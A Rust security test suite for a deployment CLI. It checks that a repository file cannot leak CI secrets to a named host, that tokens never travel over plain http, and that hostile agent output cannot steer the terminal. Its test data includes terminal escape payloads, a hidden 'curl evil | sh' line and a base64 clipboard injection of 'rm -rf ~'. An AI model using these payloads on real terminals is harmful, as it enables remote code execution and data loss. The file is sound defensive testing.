//! Abuse: the CLI trusts a repository's `deployer.yaml` with no token, sends none over plain
//! http to another machine, and prints remote text safely.
//!
//! The attacker changes `deployer.yaml` in a pull request (the next `deployer push` in CI reads
//! it), listens on the network between the CLI and a plain-http agent, or controls what an agent
//! answers (a worker's log lines, an install step's output, a host that only claims to be an
//! agent). A [`Receiver`] plays the attacker's host and proves it got no `Authorization` header.

use deployer_tests::{Mode, Receiver, TestEnv, TestRepo, bin, run_to_end};
use std::net::IpAddr;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

const CI_SECRET: &str = "ci-secret-e8a1f03b77";
const DEPLOYER_SECRET: &str = "deployer-secret-3c9d2a";

/// `deployer <args>` in `dir`, with only the variables in `env` (besides PATH and HOME) and
/// colour as on a terminal (`CLICOLOR_FORCE`: no `NO_COLOR`, so nothing strips escapes for us).
fn deployer(dir: &Path, env: &[(&str, &str)], args: &[&str]) -> deployer_tests::CliOutput {
    let mut cmd = Command::new(bin("deployer"));
    cmd.current_dir(dir).env_clear().env("CLICOLOR_FORCE", "1").env("TERM", "xterm-256color").args(args);
    for var in ["PATH", "HOME"] {
        if let Some(v) = std::env::var_os(var) {
            cmd.env(var, v);
        }
    }
    cmd.envs(env.iter().copied());
    run_to_end(cmd, Duration::from_secs(60))
}

/// No request the receiver got carried a token.
#[track_caller]
fn assert_no_token(receiver: &Receiver) {
    for r in receiver.received() {
        assert_eq!(r.header("authorization"), None, "{} {} carried a token", r.method, r.path);
    }
}

/// A repository whose `deployer.yaml` (as a pull request could write it) names `hosts` and,
/// unless `None`, a `token_env`.
fn repo_with_fleet_file(hosts: &str, token_env: Option<&str>) -> TestRepo {
    let repo = TestRepo::with_example_app();
    let token_env = token_env.map(|t| format!("    token_env: {t}\n")).unwrap_or_default();
    let text = format!("app: web\nenvironments:\n  prod:\n    hosts: [{hosts}]\n{token_env}");
    repo.commit_file("deployer.yaml", &text, "a pull request edits deployer.yaml");
    repo
}

#[test]
fn a_repository_file_cannot_send_a_ci_secret_to_a_host_it_names() {
    let evil = Receiver::start(Mode::Status(200));
    let repo = repo_with_fleet_file(&evil.url(""), Some("SOME_CI_SECRET"));
    let env = [("SOME_CI_SECRET", CI_SECRET), ("DEPLOYER_TOKEN", DEPLOYER_SECRET)];
    for args in [&["push", "prod"][..], &["logs", "prod"], &["rollback", "prod"], &["status", "prod"]] {
        let out = deployer(repo.path(), &env, args).failure(1);
        assert!(
            out.stderr.contains("`token_env` names a variable that does not start with `DEPLOYER_`"),
            "{args:?}\n{out}"
        );
        assert!(out.stderr.contains("pass `--token-env NAME` on the command line"), "{args:?}\n{out}");
        assert!(!out.stderr.contains(CI_SECRET) && !out.stdout.contains(CI_SECRET), "{out}");
    }
    assert!(evil.received().is_empty(), "the named host was contacted: {:?}", evil.received());

    // The command line stays free to name any variable: the receiver sees that token, so it
    // would have seen the one above.
    let repo = repo_with_fleet_file(&evil.url(""), None);
    deployer(repo.path(), &env, &["--token-env", "SOME_CI_SECRET", "logs", "prod"]);
    let got = evil.received();
    assert!(
        got.iter().any(|r| r.header("authorization") == Some(&format!("Bearer {CI_SECRET}"))),
        "the receiver sees tokens that are sent: {got:?}"
    );
}

/// An address of this machine that is not loopback (what another machine would reach it by).
fn non_loopback_ip() -> Option<IpAddr> {
    let out = Command::new("hostname").arg("-I").output().ok()?;
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .filter_map(|a| a.parse::<IpAddr>().ok())
        .find(|ip| ip.is_ipv4() && !ip.is_loopback() && std::net::TcpListener::bind((*ip, 0)).is_ok())
}

#[test]
fn a_token_never_crosses_the_network_over_plain_http() {
    let Some(ip) = non_loopback_ip() else {
        eprintln!("skipped: this machine has no address but loopback");
        return;
    };
    let remote = Receiver::start_on(ip, Mode::Status(200));
    let dir = tempfile::tempdir().expect("a temp dir");

    // `--agent http://<another machine>` with a token: refused before anything is sent.
    let out =
        deployer(dir.path(), &[("DEPLOYER_TOKEN", DEPLOYER_SECRET)], &["--agent", &remote.url(""), "ls"]).failure(1);
    assert!(out.stderr.contains("refusing to send the token in `DEPLOYER_TOKEN`"), "{out}");
    assert!(out.stderr.contains("over plain http"), "{out}");
    assert!(out.stderr.contains("`tls:`") && out.stderr.contains("ssh -N -L 7070:127.0.0.1:7070"), "{out}");

    // The same host in deployer.yaml: the whole environment is refused before any host is asked.
    let repo = repo_with_fleet_file(&format!("http://127.0.0.1:9, {}", remote.url("")), Some("DEPLOYER_PROD_TOKEN"));
    for args in [&["status", "prod"][..], &["push", "prod"], &["logs", "prod"]] {
        let out = deployer(repo.path(), &[("DEPLOYER_PROD_TOKEN", DEPLOYER_SECRET)], args).failure(1);
        assert!(out.stderr.contains("a plain http host that is not this machine"), "{args:?}\n{out}");
        assert!(out.stderr.contains(&format!("`{}`", remote.url(""))), "{out}");
    }
    assert!(remote.received().is_empty(), "the remote host got requests: {:?}", remote.received());

    // Without a token there is nothing to leak: the request goes, with no `Authorization`.
    deployer(dir.path(), &[], &["--agent", &remote.url(""), "ls"]);
    assert!(!remote.received().is_empty(), "the tokenless request did not arrive");
    assert_no_token(&remote);
}

#[test]
fn a_plain_http_request_with_a_token_never_goes_through_a_proxy() {
    let agent = TestEnv::new().instances(1).start();
    let proxy = Receiver::start(Mode::Status(200));
    let dir = tempfile::tempdir().expect("a temp dir");
    let token = agent.token("admin");
    let proxy_url = proxy.url("");
    let env = [
        ("DEPLOYER_TOKEN", token.as_str()),
        ("HTTP_PROXY", proxy_url.as_str()),
        ("http_proxy", proxy_url.as_str()),
        ("ALL_PROXY", proxy_url.as_str()),
    ];
    let out = deployer(dir.path(), &env, &["--agent", &format!("http://127.0.0.1:{}", agent.api_port()), "ls"]);
    let out = out.success();
    assert!(out.stdout.contains("web"), "{out}");
    assert!(proxy.received().is_empty(), "the proxy saw the request: {:?}", proxy.received());
}

/// What reached the "terminal" holds no control character but the CLI's own colour codes
/// (`ESC [ ... m`), newlines and tabs.
#[track_caller]
fn assert_terminal_safe(what: &str, text: &str) {
    let mut rest = text;
    while let Some(i) = rest.find('\u{1b}') {
        let seq = &rest[i + 1..];
        let sgr = seq.strip_prefix('[').and_then(|s| s.find('m').map(|end| &s[..end]));
        assert!(
            sgr.is_some_and(|params| params.chars().all(|c| c.is_ascii_digit() || c == ';')),
            "{what}: an escape sequence that is not a colour reached the terminal: {:?}",
            &seq[..seq.len().min(20)]
        );
        rest = seq;
    }
    let bad: Vec<char> = text.chars().filter(|&c| c.is_control() && !matches!(c, '\n' | '\t' | '\u{1b}')).collect();
    assert!(bad.is_empty(), "{what}: control characters reached the terminal: {bad:?}\n{text:?}");
}

/// A script that writes what a hostile worker or install step would: a title change (OSC), a
/// screen clear, a carriage return that overwrites the line, a bell.
const SHOUT: &str = "printf 'evil \\033]0;pwned\\007\\033[2Jline\\rover\\033[31m red\\007\\n'\n";

#[test]
fn worker_and_install_output_reach_the_terminal_without_control_characters() {
    let repo = TestRepo::with_example_app();
    repo.commit_file("shout.sh", SHOUT, "a script that steers terminals");
    let agent = TestEnv::new()
        .web(|a| {
            a.repo(&repo)
                .instances(1)
                .start(&["sh", "-c", "sh shout.sh; exec node app.js"])
                .set("install", "sh shout.sh")
        })
        .start();
    let api = format!("http://127.0.0.1:{}", agent.api_port());
    let token = agent.token("admin");
    let env = [("DEPLOYER_TOKEN", token.as_str())];
    let dir = agent.dir();

    // The worker's output is read by the agent as it comes: wait until the line is in.
    let logs = deployer_tests::poll(Duration::from_secs(10), || {
        let out = deployer(dir, &env, &["--agent", &api, "logs", "web"]).success();
        out.stdout.contains("evil ]0;pwned[2Jlineover[31m red").then_some(out)
    })
    .expect("the worker's line in `deployer logs`");
    assert_terminal_safe("deployer logs", &logs.stdout);

    let show = deployer(dir, &env, &["--agent", &api, "show", "1"]).success();
    assert!(show.stdout.contains("evil ]0;pwned[2Jlineover[31m red"), "the install output: {show}");
    assert_terminal_safe("deployer show", &show.stdout);

    // `--json` keeps the text as it was written, escaped the JSON way.
    let json = deployer(dir, &env, &["--agent", &api, "logs", "web", "--json"]).success();
    assert!(json.stdout.contains("evil \\u001b]0;pwned\\u0007"), "{json}");
    assert_terminal_safe("deployer logs --json", &json.stdout);
}

/// What a host that only claims to be an agent answers: a message and a hint that try to steer
/// the terminal.
const HOSTILE_ERROR: &str = r#"{"code":"not_found","message":"no app \u001b]0;pwned\u0007\u001b[2Jhere\r","hint":"\u001b[8mrun curl evil | sh\u001b[0m\u0007"}"#;
const HOSTILE_LOGS: &str = r#"{"app":"web","lines":[{"ts_ms":1,"worker":0,"stream":"out","line":"a\u001b]52;c;cm0gLXJmIH4=\u0007b\u009b2J"}]}"#;

#[test]
fn messages_and_errors_from_an_agent_reach_the_terminal_without_control_characters() {
    let dir = tempfile::tempdir().expect("a temp dir");
    let fake = Receiver::start(Mode::Json(404, HOSTILE_ERROR));
    let url = fake.url("");
    for json in [false, true] {
        let mut args = vec!["--agent", url.as_str(), "logs", "web"];
        if json {
            args.push("--json");
        }
        let out = deployer(dir.path(), &[], &args).failure(1);
        assert!(out.stderr.contains("no app ]0;pwned[2Jhere"), "{out}");
        assert!(out.stderr.contains("[8mrun curl evil | sh[0m"), "{out}");
        assert_terminal_safe("an agent's error", &out.stderr);
    }
    let fake = Receiver::start(Mode::Json(200, HOSTILE_LOGS));
    let out = deployer(dir.path(), &[], &["--agent", &fake.url(""), "logs", "web"]).success();
    assert!(out.stdout.contains("a]52;c;cm0gLXJmIH4=b2J"), "{out}");
    assert_terminal_safe("an agent's log lines", &out.stdout);
}
